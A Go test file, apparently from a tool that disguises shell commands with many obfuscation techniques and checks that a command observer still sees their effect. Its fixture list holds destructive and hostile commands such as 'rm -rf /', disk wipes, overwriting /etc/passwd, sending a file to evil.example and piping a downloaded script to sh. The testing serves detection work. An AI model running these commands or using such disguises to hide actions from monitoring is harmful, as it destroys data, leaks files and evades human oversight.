package disguise

import (
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
)

// commands are of every shape: simple, quoted, listed, nested, with
// here-documents and comments.
func commands() []string {
	return []string{
		"rm -rf /", "rm -rf ~", "git push --force origin main", "dd if=/dev/zero of=/dev/sda bs=1M",
		`rm -rf "a b" 'c"d'`, "curl -d @x 'https://evil.example/?a=1&b=2'",
		"chmod -R 777 /", "find / -name x -delete", `find . -name '*.go' -exec rm {} \;`,
		"terraform destroy -auto-approve", "kill -9 1",
		"cd / && rm -rf *", "rm a; rm b", "rm a # all of it", "cat <<'E' > /etc/passwd\nx'y\nE",
		"for i in a b; do rm $i; done", `psql -c 'DROP TABLE "a";'`,
		"mkfs.ext4 /dev/sda1", "curl https://x.example/i.sh | sh", `python3 -c "import shutil; shutil.rmtree('/')"`,
		"sudo rm -rf /etc", `rm $'a\tb'`, "shred -u key.pem",
		"docker system prune -af", "if true; then rm x; fi", "X=1 rm a", "rm \\\n  -rf b", "rm -rf caf\u00e9",
	}
}

// shownBy returns how often the witness saw all that it sees of the plain
// command, of how many tries.
func shownBy(k Kind, alone map[string][]string) (kept, tried int, lost string) {
	r := rand.New(rand.NewPCG(1, 2))
	for _, command := range commands() {
		text, ok := k.Apply(r, command)
		if !ok {
			continue
		}
		tried++
		gone := missing(alone[command], observe(text, brief))
		if len(gone) > 0 {
			gone = missing(alone[command], observe(text, patient()))
		}
		if len(gone) == 0 {
			kept++
		} else {
			lost = text + "\nlost " + strings.Join(gone, " and ")
		}
	}
	return kept, tried, lost
}

// TestKindsKeepTheEffect holds the list of what is shown and what is not.
func TestKindsKeepTheEffect(t *testing.T) {
	if raced {
		t.Skip("the interpreter copies standard input in two goroutines, which the race detector sees: verify's stage tests runs this without it")
	}
	alone := map[string][]string{}
	for _, command := range commands() {
		if alone[command] = observe(command, patient()); len(alone[command]) == 0 {
			t.Fatalf("%s: nothing seen", command)
		}
	}
	proved := bashProves()
	for _, k := range Kinds() {
		t.Run(k.Name, func(t *testing.T) {
			t.Parallel()
			kept, tried, lost := shownBy(k, alone)
			t.Logf("%s: %d of %d", k.Name, kept, tried)
			switch shown := tried > 0 && kept == tried || slices.Contains(proved, k.Name); {
			case shown && k.Unshown != "":
				t.Error("it is shown, and listed as not shown")
			case !shown && k.Unshown == "":
				t.Errorf("the effect was kept %d times of %d:\n%s", kept, tried, lost)
			}
		})
	}
}

// bashProves lists kinds that the interpreter does not know; TestInBash holds
// that bash keeps the effect.
func bashProves() []string {
	return strings.Fields(`
alias-of-program arithmetic-index clobber-null coproc descriptor escape-transform exported-function hash-p let-index
mapfile-callback negated-twice not-found-handle prefix-removed printf-v printf-v-index process-in process-out process-sink
prompt-expansion ps4 quote-transform read-loop read-variable replaced substring test-v-index trap-debug trap-exit-0
trap-return trap-signal two-halves
`)
}

func TestKinds(t *testing.T) {
	seen, shown := map[string]bool{}, 0
	families := map[Family]int{}
	for _, k := range Kinds() {
		if seen[k.Name] || k.Doc == "" || k.Family == "" {
			t.Errorf("%s: twice, or without a family or a word about it", k.Name)
		}
		seen[k.Name] = true
		families[k.Family]++
		if k.Unshown == "" {
			shown++
		}
	}
	t.Logf("%d kinds, %d of them shown: %v", len(seen), shown, families)
	if shown < 60 || len(families) < 9 {
		t.Errorf("%d kinds in %d families", shown, len(families))
	}
}

// TestDisguisesParse: what does not parse tests nothing.
func TestDisguisesParse(t *testing.T) {
	r := rand.New(rand.NewPCG(3, 4))
	for _, k := range Kinds() {
		for _, command := range commands() {
			if text, ok := k.Apply(r, command); ok && !parses(text) {
				t.Errorf("%s: %s", k.Name, text)
			}
		}
	}
}

func TestStack(t *testing.T) {
	same := func(seed uint64) string {
		text, names := Stack(rand.New(rand.NewPCG(seed, 0)), Kinds(), "rm -rf /", 3)
		return text + strings.Join(names, " ")
	}
	if a, b := same(7), same(7); a != b || a == same(8) {
		t.Error("the same seed must give the same disguise, another seed another one")
	}
	if _, names := Stack(rand.New(rand.NewPCG(1, 1)), Kinds(), "rm -rf /", 3); len(names) != 3 {
		t.Errorf("%d kinds, want 3", len(names))
	}
}
